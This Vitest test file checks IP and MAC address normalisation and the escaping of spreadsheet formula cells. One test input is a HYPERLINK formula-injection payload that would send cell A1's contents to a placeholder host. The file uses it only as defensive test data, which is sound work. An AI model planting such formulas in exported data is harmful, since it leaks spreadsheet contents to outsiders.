import { isIPv4, isIPv6 } from 'node:net';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  formatIpv6,
  normalizeIp,
  normalizeMac,
  parseIpv6,
} from '../../../../shared/import/network-addresses.ts';
import {
  escapeFormulaCell,
  unescapeFormulaCell,
} from '../../../../shared/exchange/formula-escape.ts';

describe('normalizeIp', () => {
  it.each([
    ['10.0.0.1', '10.0.0.1'],
    ['0.0.0.0', '0.0.0.0'],
    ['255.255.255.255', '255.255.255.255'],
    ['10.10.0.2/24', '10.10.0.2'],
    ['2001:DB8::1', '2001:db8::1'],
    ['2001:0db8:0000:0000:0000:0000:0000:0001', '2001:db8::1'],
    ['2001:db8:0:0:1:0:0:1', '2001:db8::1:0:0:1'],
    ['2001:db8:10::2/64', '2001:db8:10::2'],
    ['::', '::'],
    ['::1', '::1'],
    ['fe80::', 'fe80::'],
    ['2001:db8:0:1:1:1:1:1', '2001:db8:0:1:1:1:1:1'],
    ['::ffff:192.0.2.1', '::ffff:192.0.2.1'],
    ['64:ff9b::192.0.2.33', '64:ff9b::c000:221'],
  ])('%s -> %s', (input, output) => {
    expect(normalizeIp(input)).toEqual({ ok: true, value: output });
  });

  it.each([
    '10.0.0.256',
    '10.0.0',
    '10.0.0.1.1',
    '1.2.3.-4',
    '10.0.0.1/33',
    '10.0.0.1/024',
    '10.0.0.1/',
    '2001:db8::1::1',
    '2001:db8:::1',
    '1:2:3:4:5:6:7:8:9',
    '1:2:3:4:5:6:7',
    '12345::',
    'g::1',
    '::1/129',
    'fe80::1%eth0',
    '[::1]',
    'localhost',
    '',
  ])('rejects %s', (input) => {
    expect(normalizeIp(input)).toEqual({ ok: false, code: 'invalid_ip' });
  });

  it('rejects IPv4 with leading zeros, which some tools read as octal', () => {
    expect(normalizeIp('010.1.1.1')).toEqual({ ok: false, code: 'ipv4_leading_zero' });
  });

  it('agrees with Node on validity for arbitrary address-like strings', () => {
    const ipish = fc
      .array(fc.constantFrom(...'0123456789abcdefABCDEF:.'.split('')), { maxLength: 40 })
      .map((a) => a.join(''));
    fc.assert(
      fc.property(ipish, (text) => {
        const r = normalizeIp(text);
        if (r.ok) expect(isIPv4(r.value) || isIPv6(r.value)).toBe(true);
        // Node accepts everything we accept; we additionally refuse leading-zero IPv4.
        if (r.ok) expect(isIPv4(text) || isIPv6(text)).toBe(true);
        else if (r.code === 'invalid_ip') expect(isIPv4(text) || isIPv6(text)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it('writes any IPv6 address in the canonical form browsers use, and reads it back', () => {
    const groups = fc.array(fc.oneof(fc.constant(0), fc.integer({ min: 0, max: 0xffff })), {
      minLength: 8,
      maxLength: 8,
    });
    fc.assert(
      fc.property(groups, (g) => {
        const text = formatIpv6(g);
        expect(parseIpv6(text)).toEqual(g);
        const mapped = g.slice(0, 5).every((x) => x === 0) && g[5] === 0xffff;
        // WHATWG URL serialises IPv6 per RFC 5952 except IPv4-mapped addresses.
        if (!mapped) expect(new URL(`http://[${text}]/`).hostname).toBe(`[${text}]`);
      }),
      { numRuns: 500 },
    );
  });
});

describe('normalizeMac', () => {
  it.each([
    ['AA:BB:CC:DD:EE:FF', 'aa:bb:cc:dd:ee:ff'],
    ['aa-bb-cc-dd-ee-01', 'aa:bb:cc:dd:ee:01'],
    ['aabb.ccdd.ee02', 'aa:bb:cc:dd:ee:02'],
    ['AABB-CCDD-EE03', 'aa:bb:cc:dd:ee:03'],
    ['aabbccddee04', 'aa:bb:cc:dd:ee:04'],
    ['a:b:c:d:e:5', '0a:0b:0c:0d:0e:05'],
    [' 44-19-B6-0A-1B-2C ', '44:19:b6:0a:1b:2c'],
  ])('%s -> %s', (input, output) => {
    expect(normalizeMac(input)).toEqual({ ok: true, value: output });
  });

  it.each([
    'aa:bb:cc:dd:ee',
    'aa:bb-cc:dd:ee:ff',
    'gg:bb:cc:dd:ee:ff',
    'aabbccddeeff00',
    'aa bb cc dd ee ff',
    '',
  ])('rejects %s', (input) => {
    expect(normalizeMac(input)).toEqual({ ok: false, code: 'invalid_mac' });
  });

  it('rejects all-zero and broadcast addresses', () => {
    expect(normalizeMac('00:00:00:00:00:00')).toEqual({ ok: false, code: 'mac_not_device' });
    expect(normalizeMac('FFFF.FFFF.FFFF')).toEqual({ ok: false, code: 'mac_not_device' });
  });

  it('normalises all notations of any address to the same text', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 6, maxLength: 6 }), (bytes) => {
        const hex = [...bytes].map((b) => b.toString(16).padStart(2, '0'));
        const canonical = hex.join(':');
        const forms = [
          hex.join('-').toUpperCase(),
          hex.join(''),
          `${hex[0]}${hex[1]}.${hex[2]}${hex[3]}.${hex[4]}${hex[5]}`,
        ];
        for (const form of forms) {
          const r = normalizeMac(form);
          if (canonical === '00:00:00:00:00:00' || canonical === 'ff:ff:ff:ff:ff:ff')
            expect(r.ok).toBe(false);
          else expect(r).toEqual({ ok: true, value: canonical });
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe('formula escaping', () => {
  it('escapes cells a spreadsheet would run as formulas', () => {
    expect(escapeFormulaCell('=HYPERLINK("http://x/?"&A1)')).toBe(`'=HYPERLINK("http://x/?"&A1)`);
    expect(escapeFormulaCell('+1')).toBe("'+1");
    expect(escapeFormulaCell('-2+3')).toBe("'-2+3");
    expect(escapeFormulaCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(escapeFormulaCell('\t=1')).toBe("'\t=1");
    expect(escapeFormulaCell('\r=1')).toBe("'\r=1");
    expect(escapeFormulaCell('  =1')).toBe("'  =1");
    expect(escapeFormulaCell("'quoted")).toBe("''quoted");
    expect(escapeFormulaCell('core switch')).toBe('core switch');
    expect(escapeFormulaCell('')).toBe('');
  });

  it('unescaping inverts escaping for every string', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc
            .tuple(
              fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", ' ', "''", ' ='),
              fc.string(),
            )
            .map(([a, b]) => a + b),
        ),
        (s) => {
          expect(unescapeFormulaCell(escapeFormulaCell(s))).toBe(s);
          expect(escapeFormulaCell(s)).not.toMatch(/^(?:[=+\-@\t\r]| +[=+\-@])/);
        },
      ),
      { numRuns: 500 },
    );
  });
});
